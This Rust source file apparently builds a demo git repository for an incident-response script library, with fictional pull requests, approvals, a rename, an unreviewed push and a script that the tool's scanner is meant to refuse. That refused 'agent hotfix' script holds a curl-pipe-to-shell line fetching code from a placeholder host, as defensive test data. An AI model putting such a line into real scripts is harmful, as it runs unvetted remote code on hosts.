//! Writes the demo's library repository: a believable history of pull requests, approvals,
//! a direct push, a refused script, a high-risk script and a rename, made of real git
//! commits and merges (git2, no git CLI needed), from `example-library/` and `policies/`.

use anyhow::{Context, Result, bail};
use git2::{IndexEntry, IndexTime, Oid, Repository, Signature, Time};
use std::collections::BTreeMap;
use std::path::Path;

/// A file in the repository: bytes and whether it is executable.
#[derive(Clone)]
struct Blob {
    bytes: Vec<u8>,
    executable: bool,
}

/// One person of the example policy.
#[derive(Clone, Copy)]
pub struct Person {
    /// Display name.
    pub name: &'static str,
    /// Email, as in policies/members.toml.
    pub email: &'static str,
}

/// The people of policies/members.toml used in the story.
pub const DANA: Person = Person {
    name: "Dana Whitfield",
    email: "dana.whitfield@example.org",
};
/// ir-lead.
pub const MARCUS: Person = Person {
    name: "Marcus Oyelaran",
    email: "marcus.oyelaran@example.org",
};
/// responder.
pub const PRIYA: Person = Person {
    name: "Priya Raman",
    email: "priya.raman@example.org",
};
/// responder.
pub const TOMAS: Person = Person {
    name: "Tomas Lindqvist",
    email: "tomas.lindqvist@example.org",
};

/// What the story produced, for the summary and the tests.
pub struct Story {
    /// The trusted first commit (policies only).
    pub trust_commit: String,
    /// The script changed by a direct push.
    pub drifted: &'static str,
    /// The new script the scanner refuses.
    pub refused: &'static str,
    /// The high-risk script that needed two approvals.
    pub high_risk: &'static str,
    /// The renamed script: (old name, new name).
    pub renamed: (&'static str, &'static str),
    /// The script with a second approved version.
    pub updated: &'static str,
}

struct Writer<'r> {
    repo: &'r Repository,
    files: BTreeMap<String, Blob>,
    head: Option<Oid>,
    clock: i64,
}

impl<'r> Writer<'r> {
    fn sig(&mut self, who: Person) -> Result<Signature<'static>> {
        // A fixed clock makes the demo's commit ids the same on every run.
        self.clock += 3600;
        Ok(Signature::new(
            who.name,
            who.email,
            &Time::new(self.clock, 0),
        )?)
    }

    fn tree(&self, files: &BTreeMap<String, Blob>) -> Result<Oid> {
        let mut index = git2::Index::new()?;
        for (path, blob) in files {
            let entry = IndexEntry {
                ctime: IndexTime::new(0, 0),
                mtime: IndexTime::new(0, 0),
                dev: 0,
                ino: 0,
                mode: if blob.executable { 0o100755 } else { 0o100644 },
                uid: 0,
                gid: 0,
                file_size: blob.bytes.len() as u32,
                id: self.repo.blob(&blob.bytes)?,
                flags: 0,
                flags_extended: 0,
                path: path.as_bytes().to_vec(),
            };
            index.add(&entry)?;
        }
        Ok(index.write_tree_to(self.repo)?)
    }

    fn commit(
        &mut self,
        files: &BTreeMap<String, Blob>,
        parents: &[Oid],
        author: Person,
        committer: Person,
        msg: &str,
    ) -> Result<Oid> {
        let tree = self.repo.find_tree(self.tree(files)?)?;
        let author = self.sig(author)?;
        let committer = if committer.email == author.email().unwrap_or_default() {
            author.clone()
        } else {
            self.sig(committer)?
        };
        let parents: Vec<git2::Commit> = parents
            .iter()
            .map(|p| self.repo.find_commit(*p))
            .collect::<Result<_, _>>()?;
        let refs: Vec<&git2::Commit> = parents.iter().collect();
        Ok(self
            .repo
            .commit(None, &author, &committer, msg, &tree, &refs)?)
    }

    /// A direct push: one commit on main, no review.
    fn push(
        &mut self,
        author: Person,
        msg: &str,
        change: impl FnOnce(&mut BTreeMap<String, Blob>),
    ) -> Result<Oid> {
        let mut files = self.files.clone();
        change(&mut files);
        let parents: Vec<Oid> = self.head.into_iter().collect();
        let id = self.commit(&files, &parents, author, author, msg)?;
        self.files = files;
        self.head = Some(id);
        Ok(id)
    }

    /// A pull request: a commit on a branch by `author`, merged with `--no-ff` by `merger`
    /// with `Approved-by:` trailers naming the approvers.
    fn pull_request(
        &mut self,
        number: u32,
        branch: &str,
        author: Person,
        title: &str,
        approvers: &[Person],
        change: impl FnOnce(&mut BTreeMap<String, Blob>),
    ) -> Result<Oid> {
        let base = self.head.context("a pull request needs a base commit")?;
        let mut files = self.files.clone();
        change(&mut files);
        let work = self.commit(&files, &[base], author, author, title)?;
        let merger = approvers.first().copied().unwrap_or(author);
        let mut msg = format!("Merge pull request #{number} from {branch}\n\n{title}\n\n");
        for a in approvers {
            msg.push_str(&format!("Approved-by: {} <{}>\n", a.name, a.email));
        }
        let id = self.commit(&files, &[base, work], merger, merger, &msg)?;
        self.files = files;
        self.head = Some(id);
        Ok(id)
    }
}

/// Reads a folder of the project into (path → blob), relative to `prefix`.
fn read_dir(root: &Path, prefix: &str, out: &mut BTreeMap<String, Blob>) -> Result<()> {
    let mut stack = vec![(root.to_path_buf(), prefix.to_string())];
    while let Some((dir, rel)) = stack.pop() {
        let entries =
            std::fs::read_dir(&dir).with_context(|| format!("reading {}", dir.display()))?;
        for entry in entries {
            let entry = entry?;
            let name = entry.file_name().to_string_lossy().into_owned();
            let kind = entry.file_type()?;
            let path = format!("{rel}/{name}");
            if kind.is_dir() {
                stack.push((entry.path(), path));
            } else if kind.is_file() {
                let bytes = std::fs::read(entry.path())?;
                let executable = name.ends_with(".sh") || name.ends_with(".zsh");
                out.insert(path, Blob { bytes, executable });
            }
        }
    }
    Ok(())
}

fn take_script(pool: &BTreeMap<String, Blob>, name: &str, into: &mut BTreeMap<String, Blob>) {
    let prefix = format!("library/{name}/");
    for (p, b) in pool
        .range(prefix.clone()..)
        .take_while(|(p, _)| p.starts_with(&prefix))
    {
        into.insert(p.clone(), b.clone());
    }
}

/// Writes the demo repository at `dir` from the project's `example-library/` and
/// `policies/` folders.
pub fn write(dir: &Path, example_library: &Path, policies: &Path) -> Result<Story> {
    let mut pool = BTreeMap::new();
    read_dir(example_library, "library", &mut pool)?;
    let mut policy_files = BTreeMap::new();
    read_dir(policies, "policies", &mut policy_files)?;
    if pool.is_empty() || policy_files.is_empty() {
        bail!(
            "{} or {} is empty",
            example_library.display(),
            policies.display()
        );
    }
    let repo = Repository::init_opts(dir, git2::RepositoryInitOptions::new().initial_head("main"))
        .with_context(|| format!("creating a git repository at {}", dir.display()))?;
    let mut w = Writer {
        repo: &repo,
        files: BTreeMap::new(),
        head: None,
        clock: 1_793_000_000,
    };

    // 1. The policies, committed by the IR lead; the controller pins this commit.
    let trust = w.push(
        DANA,
        "Add library policies: members, roles, approvals, rules, targets",
        |f| {
            f.extend(policy_files.clone());
        },
    )?;

    // 2. Two pull requests bring in the core collectors, each approved by someone else.
    let first = [
        "process-list",
        "network-connections",
        "persistence",
        "user-logons",
        "installed-software",
        "dns-cache",
        "local-accounts",
    ];
    w.pull_request(
        1,
        "praman/core-collectors",
        PRIYA,
        "Add core triage collectors",
        &[DANA],
        |f| {
            for s in first {
                take_script(&pool, s, f);
            }
        },
    )?;
    let second = [
        "browser-extensions",
        "file-timeline",
        "kernel-modules",
        "ssh-authorized-keys",
        "open-files",
        "defender-status",
        "triage-bundle",
    ];
    w.pull_request(
        2,
        "tlindqvist/more-collectors",
        TOMAS,
        "Add browser, timeline, module and key inventories",
        &[PRIYA],
        |f| {
            for s in second {
                take_script(&pool, s, f);
            }
        },
    )?;

    // 3. A script under an old name, renamed by a later pull request (it keeps its versions).
    let (old, new) = ("tmp-executables", "temp-executables");
    w.pull_request(
        3,
        "moyelaran/tmp-executables",
        MARCUS,
        "Add recently dropped executables collector",
        &[TOMAS],
        |f| {
            let mut one = BTreeMap::new();
            take_script(&pool, new, &mut one);
            for (p, b) in one {
                let mut b = b;
                let p = p.replacen(&format!("library/{new}/"), &format!("library/{old}/"), 1);
                if p.ends_with("script.toml") {
                    b.bytes = String::from_utf8_lossy(&b.bytes)
                        .replacen(
                            &format!("name = \"{new}\""),
                            &format!("name = \"{old}\""),
                            1,
                        )
                        .into_bytes();
                }
                f.insert(p, b);
            }
        },
    )?;

    // 4. The high-risk script: two approvals, as approvals.toml asks.
    w.pull_request(
        4,
        "praman/shell-history",
        PRIYA,
        "Add shell history collector (high risk)",
        &[DANA, MARCUS],
        |f| {
            take_script(&pool, "shell-history", f);
        },
    )?;

    // 5. The rename.
    w.pull_request(
        5,
        "tlindqvist/rename-temp-executables",
        TOMAS,
        "Rename tmp-executables to temp-executables",
        &[PRIYA],
        |f| {
            let moved: Vec<String> = f
                .keys()
                .filter(|p| p.starts_with(&format!("library/{old}/")))
                .cloned()
                .collect();
            for p in moved {
                f.remove(&p);
            }
            take_script(&pool, new, f);
        },
    )?;

    // 6. An approved change: process-list gets a second version.
    w.pull_request(
        6,
        "praman/process-list-timeout",
        PRIYA,
        "process-list: allow 10 minutes on busy hosts",
        &[TOMAS],
        |f| {
            if let Some(b) = f.get_mut("library/process-list/script.toml") {
                b.bytes = String::from_utf8_lossy(&b.bytes)
                    .replacen("timeout = \"5m\"", "timeout = \"10m\"", 1)
                    .into_bytes();
            }
        },
    )?;

    // 7. A direct push to main, no review: dns-cache drifts and stays at its approved version.
    w.push(TOMAS, "dns-cache: quick tweak during the incident", |f| {
        if let Some(b) = f.get_mut("library/dns-cache/dns-cache.sh") {
            b.bytes
                .extend_from_slice(b"# unreviewed tweak pushed straight to main\n");
        }
    })?;

    // 8. A pull request adding a script the scanner refuses: it must never reach an endpoint.
    w.pull_request(7, "tlindqvist/agent-hotfix", TOMAS, "Add agent hotfix installer", &[PRIYA], |f| {
        f.insert(
            "library/agent-hotfix/script.toml".into(),
            Blob {
                bytes: b"name = \"agent-hotfix\"\ndescription = \"Installs the latest EDR agent hotfix.\"\nplatforms = [\"linux\"]\n\n[entry.linux]\nfile = \"hotfix.sh\"\ninterpreter = \"bash\"\n".to_vec(),
                executable: false,
            },
        );
        f.insert(
            "library/agent-hotfix/hotfix.sh".into(),
            Blob {
                bytes: b"#!/usr/bin/env bash\nset -u\ncurl -fsSL http://updates.example.invalid/hotfix.sh | sh\n".to_vec(),
                executable: true,
            },
        );
    })?;

    let head = w.head.context("no commits written")?;
    repo.reference("refs/heads/main", head, true, "quiver demo")?;
    repo.set_head("refs/heads/main")?;
    repo.checkout_head(Some(git2::build::CheckoutBuilder::new().force()))?;
    Ok(Story {
        trust_commit: trust.to_string(),
        drifted: "dns-cache",
        refused: "agent-hotfix",
        high_risk: "shell-history",
        renamed: (old, new),
        updated: "process-list",
    })
}
